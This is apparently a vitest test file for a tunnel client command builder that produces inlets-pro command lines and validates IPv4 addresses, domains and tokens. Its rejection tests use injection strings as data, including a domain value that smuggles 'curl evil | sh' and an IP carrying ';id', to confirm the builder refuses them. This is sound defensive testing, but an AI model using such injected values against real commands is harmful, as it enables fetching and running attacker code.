import { spawnSync } from 'node:child_process'
import { describe, it, expect } from 'vitest'
import { buildClientCommand, isIPv4 } from '../../src/main/tunnel/client-command'
import { generateTunnelToken } from '../../src/main/tunnel/token'
import { appErrorOf } from '../support/app-error'

const token = generateTunnelToken()
const ipv4 = '203.0.113.10'

/** How bash splits the command into words (with `inlets-pro` replaced by a word printer). */
function bashWords(command: string): string[] {
  expect(command.startsWith('inlets-pro ')).toBe(true)
  const script = `words() { printf '%s\\n' "$@"; }\nwords ${command.slice('inlets-pro '.length)}`
  const result = spawnSync('bash', ['--norc', '-c', script], { encoding: 'utf8' })
  expect(result.status, result.stderr).toBe(0)
  return result.stdout.split('\n').slice(0, -1)
}


describe('buildClientCommand', () => {
  it('TCP: connects to the control port with auto-TLS, forwards example port 2222 to 127.0.0.1', () => {
    const command = buildClientCommand({ mode: 'tcp', ipv4, domains: [], token })
    expect(command).toBe(
      `inlets-pro tcp client --url "wss://203.0.113.10:8123" --token "${token}" --upstream "127.0.0.1" --ports 2222`,
    )
    expect(bashWords(command)).toEqual([
      'tcp',
      'client',
      '--url',
      'wss://203.0.113.10:8123',
      '--token',
      token,
      '--upstream',
      '127.0.0.1',
      '--ports',
      '2222',
    ])
  })

  it('TCP: ignores domains', () => {
    expect(buildClientCommand({ mode: 'tcp', ipv4, domains: ['x.example.com'], token })).not.toContain('example')
  })

  it('HTTPS, one domain: maps the domain to a local HTTP upstream', () => {
    const command = buildClientCommand({ mode: 'https', ipv4, domains: ['tunnel.example.com'], token })
    expect(command).toBe(
      `inlets-pro http client --url "wss://203.0.113.10:8123" --token "${token}" --upstream "tunnel.example.com=http://127.0.0.1:8080"`,
    )
  })

  it('HTTPS, several domains: one --upstream flag per domain (the comma form is deprecated)', () => {
    const command = buildClientCommand({
      mode: 'https',
      ipv4,
      domains: ['grafana.example.com', 'OpenFaaS.example.org', 'grafana.example.com'],
      token,
    })
    expect(bashWords(command)).toEqual([
      'http',
      'client',
      '--url',
      'wss://203.0.113.10:8123',
      '--token',
      token,
      '--upstream',
      'grafana.example.com=http://127.0.0.1:8080',
      '--upstream',
      'openfaas.example.org=http://127.0.0.1:8080',
    ])
    expect(command).not.toContain(',')
  })

  it('is one line', () => {
    for (const mode of ['tcp', 'https'] as const) {
      expect(buildClientCommand({ mode, ipv4, domains: ['a.example.com'], token })).not.toMatch(/[\n\\]/)
    }
  })

  describe('rejects, naming the field', () => {
    it.each(['', '1.2.3', '1.2.3.4.5', '256.1.1.1', '01.2.3.4', '1.2.3.4 ', '1.2.3.4;id', '::1', 'example.com', '1.2.3.-4'])(
      'ip %j',
      (bad) => {
        const error = appErrorOf(() => buildClientCommand({ mode: 'tcp', ipv4: bad, domains: [], token }))
        expect(error.info.code).toBe('invalid-input')
        expect(error.info.field).toBe('ipv4')
      },
    )

    it('a malformed token, without repeating it', () => {
      const bad = `${token.slice(0, 63)}"`
      const error = appErrorOf(() => buildClientCommand({ mode: 'tcp', ipv4, domains: [], token: bad }))
      expect(error.info.field).toBe('token')
      expect(error.message).not.toContain(bad)
    })

    it('HTTPS without domains', () => {
      const error = appErrorOf(() => buildClientCommand({ mode: 'https', ipv4, domains: [], token }))
      expect(error.info.field).toBe('domains')
    })

    it('a hostile domain', () => {
      const error = appErrorOf(() =>
        buildClientCommand({ mode: 'https', ipv4, domains: ['ok.example.com', 'a.com" && curl evil | sh #'], token }),
      )
      expect(error.info.field).toBe('domains.1')
    })

    it('an unknown mode', () => {
      const error = appErrorOf(() => buildClientCommand({ mode: 'udp' as 'tcp', ipv4, domains: [], token }))
      expect(error.info.field).toBe('mode')
    })
  })
})

describe('isIPv4', () => {
  it.each(['0.0.0.0', '1.2.3.4', '255.255.255.255', '10.0.0.1'])('accepts %s', (ip) => {
    expect(isIPv4(ip)).toBe(true)
  })
  it.each(['255.255.255.256', '1.2.3', 'a.b.c.d', '1..2.3', '1.2.3.4/32', undefined])('refuses %s', (ip) => {
    expect(isIPv4(ip)).toBe(false)
  })
})
